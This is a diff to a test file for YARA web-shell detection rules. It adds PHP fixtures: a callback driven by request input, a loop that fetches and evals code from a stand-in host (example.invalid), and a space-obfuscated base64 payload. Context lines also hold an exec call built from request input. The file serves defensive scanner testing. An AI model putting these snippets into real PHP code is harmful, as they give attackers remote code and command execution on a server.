@@ -109,6 +109,11 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),
     ("SPAMGEAR_INPUT_TinyCallbackOfInput", php("$f = $_GET['f']; $a = $_GET['a']; $f($a);"), True),
+    (
+        "SPAMGEAR_INPUT_TinyCallbackOfInput",
+        php("$arr = array($_POST['p']); array_udiff($arr, array(1), $e);"),
+        True,
+    ),
     ("SPAMGEAR_INPUT_CallResultOnInput", php("$h['x']($_GET['a']);"), True),
     ("SPAMGEAR_INPUT_CallResultOnInput", php("$h['x'] = ($_GET['a']);"), False),
     ("SPAMGEAR_INPUT_ShellConcatInput", php("exec('ping -c1 ' . $_GET['h']);"), True),
@@ -376,6 +381,22 @@ CASES: list[tuple[str, bytes, bool]] = [
         b'eval("module.exports = function (exec) { try { return !!exec(); } catch (e) {} };");',
         False,
     ),
+    (
+        "SPAMGEAR_OBFUSC_SmallRemoteEval",
+        php("while ($c = file_get_contents('http://example.invalid/c.txt')) { eval($c); sleep(5); }"),
+        True,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_SmallRemoteEval",
+        php("$c = file_get_contents('http://example.invalid/c.txt'); echo $c;"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_SpacedPayload",
+        php('$p = str_replace(" ", "", "a W Y o a X N z Z X Q o J F 9 D T 0 9 L S U V b");'),
+        True,
+    ),
+    ("SPAMGEAR_OBFUSC_SpacedPayload", php('$p = str_replace(" ", "", "first name");'), False),
     # --- filemanager.yar ---------------------------------------------------------------------
     (
         "SPAMGEAR_SHELLUI_CommandFileManager",
